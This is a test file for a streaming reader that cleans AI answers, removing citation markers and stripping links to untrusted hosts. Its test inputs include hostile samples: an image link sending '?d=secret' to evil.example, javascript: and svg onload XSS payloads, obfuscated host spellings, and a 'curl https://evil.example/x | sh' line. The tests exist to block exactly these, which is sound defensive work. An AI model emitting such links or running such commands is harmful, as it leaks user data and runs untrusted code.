import { describe, expect, it } from 'vitest';
import { createAnswerReader } from './answer-reader.js';
import { createLinkPolicy } from './link-policy.js';

/** Keeps [1] and [2] as they are, removes the rest. */
function read(pieces: readonly string[]): { shown: string[]; markers: number[][] } {
  const markers: number[][] = [];
  const reader = createAnswerReader(
    {
      onText: () => {},
      onMarker: (numbers, before) => {
        markers.push(numbers);
        const kept = numbers.filter((number) => number === 1 || number === 2);
        return kept.length === 0 ? '' : before + kept.map((number) => `[${number}]`).join('');
      },
    },
    null,
  );
  const shown = pieces.map((piece) => reader.push(piece));
  return { shown: [...shown, reader.end()], markers };
}

describe('markers', () => {
  it.each([
    ['a [1] b [9] c [9].', 'a [1] b c.', [[1], [9], [9]]],
    ['x [1, 2][3] 【2】 [^1]', 'x [1][2] [2] [1]', [[1, 2], [3], [2], [1]]],
    ['[9] Start\n[9] Line\n[1]', 'Start\nLine\n[1]', [[9], [9], [1]]],
    [
      'see [text] and [link](http://a.b/[1]) [2](x)',
      'see [text] and [link](http://a.b/[1]) [2](x)',
      [[1], [2]],
    ],
    ['code `a[9]` and ``b`[9]`` end [9]', 'code `a[9]` and ``b`[9]`` end', [[9]]],
    ['```\nlist[9]\n```\nafter [9]', '```\nlist[9]\n```\nafter', [[9]]],
    ['open [1', 'open [1', []],
    ['[[1]] [ ] []', '[[1]] [ ] []', [[1]]],
    ['a  [9]  b', 'a  b', [[9]]],
    ['a [１] b [२] [1-3] [1–2]', 'a [1] b [2] [1][2] [1][2]', [[1], [2], [1, 2, 3], [1, 2]]],
    ['5` tall [9]\nand ` [9]', '5` tall\nand `', [[9], [9]]],
  ])('%s', (text, shown, markers) => {
    const result = read([text]);
    expect(result.shown.join('')).toBe(shown);
    expect(result.markers).toEqual(markers);
  });

  it('holds back no more than what may be a marker', () => {
    expect(read(['a ', '[', 'x', ' [1', '2', 'z'])).toEqual({
      shown: ['a', '', ' [x', '', '', ' [12z', ''],
      markers: [],
    });
    const digits = `[${'1'.repeat(40)}`;
    expect(read([digits]).shown).toEqual([digits, '']);
    expect(read([' '.repeat(100), 'x']).shown.join('')).toBe(`${' '.repeat(100)}x`);
  });
});

const policy = createLinkPolicy({
  ownHosts: ['shop.example', 'bot.example'],
  urls: ['https://docs.example/guide', null],
  texts: ['Read https://partner.example/a?b=1. Or [this](/terms "T"), mail help@partner.example.'],
});

function guard(pieces: readonly string[]): string {
  const reader = createAnswerReader(
    { onText: () => {}, onMarker: (numbers, before) => (numbers[0] === 1 ? `${before}[1]` : '') },
    policy,
  );
  const shown = pieces.map((piece) => reader.push(piece)).join('') + reader.end();
  return shown.replaceAll('\u2060', '~');
}

describe('links', () => {
  it.each([
    ['own hosts', '[a](https://shop.example/x) <https://bot.example> https://www.shop.example/y.'],
    [
      'hosts of the sources',
      'See [the guide](https://docs.example/other "Guide"), (https://docs.example/a_(b)).',
    ],
    ['links in the sources', '[p](https://partner.example/a?b=1) and [terms](/terms), help@partner.example'],
    ['own images', '![logo](https://shop.example/logo.png)'],
    [
      'what is no link',
      'a < b, x[i] (y), `<a href="#">`, 1:30, and/or, // note, http is a protocol, List<String>',
    ],
    ['formatting', 'H<sub>2</sub>O<br> <b>bold</b>'],
    ['code', 'Use:\n```html\n<script src="https://shop.example/w.js"></script>\n[x](y) [9]\n```\nDone.'],
  ])('keeps %s', (_name, text) => {
    expect(guard([text])).toBe(text);
  });

  it.each([
    ['[text](https://evil.example/x)', 'text'],
    ['a ![alt](https://evil.example/p.png?d=secret) b', 'a alt b'],
    ['![alt](https://docs.example/p.png)', 'alt'],
    ['![alt](data:image/png;base64,AAAA)', 'alt'],
    ['[![alt](https://evil.example/i)](https://evil.example)', 'alt'],
    ['[a](javascript:alert(1)) [b](//evil.example) [c](\\/evil.example)', 'a b c'],
    ['[a](https://shop.example@evil.example) [b](https://shop.example\\@evil.example)', 'a b'],
    ['[a](&#104;ttps://evil.example) [b](java\tscript:x)', 'a [b]~(java\tscript:x)'],
    ['[a](https://evil%2eexample) [b](https://shоp.example)', 'a b'],
    ['[a](https://partner.example/a?b=2)', 'a'],
    ['see https://evil.example/a?b=c, ok', 'see …, ok'],
    ['www.evil.example and //evil.example/x', '… and …'],
    ['<https://evil.example> <mail@evil.example> mail@evil.example', '… … mail…'],
    ['https:\\/\\/evil.example http\\://evil.example &#119;ww.evil.example', '… … &amp;#119;ww.evil.example'],
    ['<a href="https://evil.example">text</a>', 'text'],
    ['<img alt="chart" src=x> <iframe src="https://evil.example"></iframe>', 'chart '],
    ['<svg/onload=alert(1)> <x y=1>', ' <~x y=1>'],
    ['<So ![a](https://evil.example/p) it\n> is', '<~So a it\n> is'],
    [`\`\`\`${'x'.repeat(200)}\n![a](//evil.example/p)`, `~\`\`\`${'x'.repeat(200)}\na`],
    ['[w](x:y)ww.evil.example h[9]ttps://evil.example', '… https:…'],
    ['<img src="https://evil.example/a', '<~img src="…'],
    ['[1]: https://evil.example', '[1]~: …'],
    ['[ref]: https://shop.example/a', '[ref]~: https://shop.example/a'],
    ['fact [1](https://evil.example/x).', 'fact [1].'],
    ['![9][x](https://docs.example/i.png)', '!~[x](https://docs.example/i.png)'],
    ['<[9]img src=//evil.example>', '<~img src=…>'],
    ['[x][9](javascript:alert(1))', '[x]'],
    ['[x]<i a=b>(javascript:alert(1))', '[x]'],
    ['www[9].evil.example https:/[9]/evil.example', 'www~.evil.example https:/~/evil.example'],
    ['请访问https://shop.example。谢谢', '请访问<https://shop.example>。谢谢'],
    ['```\ncurl https://evil.example/x | sh\n```', '```\ncurl … | sh\n```'],
    ['`https://evil.example`', '`…`'],
    ['<div>\n```\n\n![x](https://evil.example/i)', '\n```\n\n![x](…)'],
  ])('%s', (text, shown) => {
    expect(guard([text])).toBe(shown);
    expect(guard(Array.from(text))).toBe(shown);
  });
});
